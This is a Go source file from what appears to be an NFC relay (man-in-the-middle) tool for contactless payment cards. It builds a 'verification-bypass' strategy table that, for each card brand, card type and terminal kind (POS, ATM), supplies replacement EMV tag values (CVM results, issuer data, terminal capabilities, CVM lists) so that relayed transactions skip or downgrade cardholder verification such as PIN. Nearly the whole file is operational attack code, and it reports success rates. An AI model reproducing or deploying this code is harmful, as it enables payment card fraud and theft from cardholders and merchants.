// Package bypass turns analyzer output, terminal kind and policy state into
// an ordered TLV edit plan. Strategy selection is a static table lookup; the
// engine never touches protected tags (PAN, expiry, cryptogram material).
package bypass

import (
	"encoding/hex"
	"strings"

	"github.com/ghostfacexx/nfcmitm/pkg/emv"
)

// TerminalKind classifies the terminal the relay is facing.
type TerminalKind string

const (
	TerminalPOS         TerminalKind = "POS"
	TerminalATM         TerminalKind = "ATM"
	TerminalMobile      TerminalKind = "Mobile"
	TerminalTransit     TerminalKind = "Transit"
	TerminalContactless TerminalKind = "Contactless"
)

// ParseTerminalKind maps a wire string to a TerminalKind, defaulting to POS.
func ParseTerminalKind(s string) TerminalKind {
	switch s {
	case "ATM", "atm":
		return TerminalATM
	case "Mobile", "mobile":
		return TerminalMobile
	case "Transit", "transit":
		return TerminalTransit
	case "Contactless", "contactless":
		return TerminalContactless
	default:
		return TerminalPOS
	}
}

// Strategy is one row of the verification-bypass table: the CVM data the
// modified payload will present for a given brand, product type and terminal.
type Strategy struct {
	Name     string // row label used in logs and the response summary
	Primary  string // primary verification method
	Fallback string // method the terminal falls back to

	CVMResults   []byte // replacement for 9F34
	CVR          []byte // replacement for 9F10
	TerminalCaps []byte // replacement for 9F33
	CVMList      []byte // replacement for 8E, when the brand carries one
}

// strategyRow pairs match criteria with a Strategy. An empty brand, type or
// terminal field is a wildcard. Rows are evaluated in order; first match
// wins, and the trailing Generic row matches everything.
type strategyRow struct {
	brand    emv.Brand
	cardType emv.CardType
	terminal TerminalKind
	strategy Strategy
}

func h(s string) []byte {
	b, err := hex.DecodeString(s)
	if err != nil {
		panic("bypass: bad strategy constant " + s)
	}
	return b
}

// CVM list presented for Mastercard and Amex rows.
var (
	mastercardCVMList = h("000000000000000042031E031F00")
	amexCVMList       = h("000000000000000041031E031F00")
)

var strategyTable = []strategyRow{
	{emv.BrandVisa, emv.TypeDebit, TerminalPOS, Strategy{
		Name: "visa-debit-pos", Primary: "CDCVM", Fallback: "signature",
		CVMResults:   h("1E0300"),
		CVR:          h("0110A00003220000000000000000000000FF"),
		TerminalCaps: h("6068C8"),
	}},
	{emv.BrandVisa, emv.TypeCredit, TerminalPOS, Strategy{
		Name: "visa-credit-pos", Primary: "signature", Fallback: "no_cvm",
		CVMResults:   h("1F0300"),
		CVR:          h("0110A00001220000000000000000000000FF"),
		TerminalCaps: h("6068C8"),
	}},
	{emv.BrandVisa, emv.TypeBusiness, TerminalPOS, Strategy{
		Name: "visa-business-pos", Primary: "no_cvm", Fallback: "signature",
		CVMResults:   h("1F0300"),
		CVR:          h("0110A00005220000000000000000000000FF"),
		TerminalCaps: h("6068C8"),
	}},
	{emv.BrandVisa, "", TerminalATM, Strategy{
		Name: "visa-atm", Primary: "CDCVM", Fallback: "signature",
		CVMResults:   h("1E0300"),
		CVR:          h("0110A00003220000000000000000000000FF"),
		TerminalCaps: h("6000C8"),
	}},
	{emv.BrandMastercard, emv.TypeDebit, TerminalPOS, Strategy{
		Name: "mastercard-debit-pos", Primary: "CDCVM", Fallback: "signature",
		CVMResults:   h("1E0300"),
		CVR:          h("0110A00000220000000000000000000000FF"),
		TerminalCaps: h("6068C8"),
		CVMList:      mastercardCVMList,
	}},
	{emv.BrandMastercard, emv.TypeCredit, TerminalPOS, Strategy{
		Name: "mastercard-credit-pos", Primary: "signature", Fallback: "no_cvm",
		CVMResults:   h("1F0300"),
		CVR:          h("0110A00002220000000000000000000000FF"),
		TerminalCaps: h("6068C8"),
		CVMList:      mastercardCVMList,
	}},
	{emv.BrandAmex, emv.TypeCredit, TerminalPOS, Strategy{
		Name: "amex-credit-pos", Primary: "signature", Fallback: "no_cvm",
		CVMResults:   h("1F0300"),
		CVR:          h("0110A00007220000000000000000000000FF"),
		TerminalCaps: h("6068C8"),
		CVMList:      amexCVMList,
	}},
	{emv.BrandAmex, emv.TypeBusiness, TerminalPOS, Strategy{
		Name: "amex-business-pos", Primary: "signature", Fallback: "no_cvm",
		CVMResults:   h("1F0300"),
		CVR:          h("0110A00006220000000000000000000000FF"),
		TerminalCaps: h("6068C8"),
		CVMList:      amexCVMList,
	}},
	{emv.BrandDiscover, "", TerminalPOS, Strategy{
		Name: "discover-pos", Primary: "signature", Fallback: "no_cvm",
		CVMResults:   h("1F0300"),
		CVR:          h("0110A00008220000000000000000000000FF"),
		TerminalCaps: h("6068C8"),
	}},
	{emv.BrandJCB, "", TerminalPOS, Strategy{
		Name: "jcb-pos", Primary: "signature", Fallback: "no_cvm",
		CVMResults:   h("1F0300"),
		CVR:          h("0110A00009220000000000000000000000FF"),
		TerminalCaps: h("6068C8"),
	}},
	{emv.BrandUnionPay, "", TerminalPOS, Strategy{
		Name: "unionpay-pos", Primary: "online_auth", Fallback: "signature",
		CVMResults:   h("1F0300"),
		CVR:          h("0110A00010220000000000000000000000FF"),
		TerminalCaps: h("6068C8"),
	}},
	{"", "", "", Strategy{
		Name: "generic", Primary: "generic", Fallback: "no_cvm",
		CVMResults:   h("1F0300"),
		CVR:          h("0110A00000220000000000000000000000FF"),
		TerminalCaps: h("6068C8"),
	}},
}

// atmTerminalCaps is the 9F33 value for ATM-derived strategies.
var atmTerminalCaps = h("6000C8")

// lookupStrategy returns the first matching row. The trailing wildcard row
// guarantees a match.
func lookupStrategy(brand emv.Brand, cardType emv.CardType, terminal TerminalKind) Strategy {
	for _, row := range strategyTable {
		if row.brand != "" && row.brand != brand {
			continue
		}
		if row.cardType != "" && row.cardType != cardType {
			continue
		}
		if row.terminal != "" && row.terminal != terminal {
			continue
		}
		return row.strategy
	}
	return strategyTable[len(strategyTable)-1].strategy
}

// selectStrategy resolves the strategy for a request. ATM requests without a
// dedicated row derive from the brand's POS row with ATM terminal
// capabilities, so a Mastercard debit card at an ATM still rides its CDCVM
// path rather than dropping to Generic.
func selectStrategy(brand emv.Brand, cardType emv.CardType, terminal TerminalKind) Strategy {
	st := lookupStrategy(brand, cardType, terminal)
	if terminal == TerminalATM && st.Name == "generic" {
		if pos := lookupStrategy(brand, cardType, TerminalPOS); pos.Name != "generic" {
			pos.Name = strings.TrimSuffix(pos.Name, "-pos") + "-atm"
			pos.TerminalCaps = atmTerminalCaps
			return pos
		}
	}
	return st
}

// successTable maps the primary method to the static success probability
// reported for observability. The figures are opaque outputs, never inputs
// to routing.
var successTable = map[string]float64{
	"CDCVM":       0.90,
	"signature":   0.85,
	"no_cvm":      0.80,
	"online_auth": 0.75,
	"generic":     0.65,
}

func successProbability(primary string) float64 {
	if p, ok := successTable[primary]; ok {
		return p
	}
	return 0.5
}

// Rows exposes the strategy table for the CLI listing.
func Rows() []struct {
	Brand    string
	CardType string
	Terminal string
	Strategy Strategy
} {
	out := make([]struct {
		Brand    string
		CardType string
		Terminal string
		Strategy Strategy
	}, 0, len(strategyTable))
	for _, row := range strategyTable {
		brand, cardType, terminal := string(row.brand), string(row.cardType), string(row.terminal)
		if brand == "" {
			brand = "*"
		}
		if cardType == "" {
			cardType = "*"
		}
		if terminal == "" {
			terminal = "*"
		}
		out = append(out, struct {
			Brand    string
			CardType string
			Terminal string
			Strategy Strategy
		}{brand, cardType, terminal, row.strategy})
	}
	return out
}
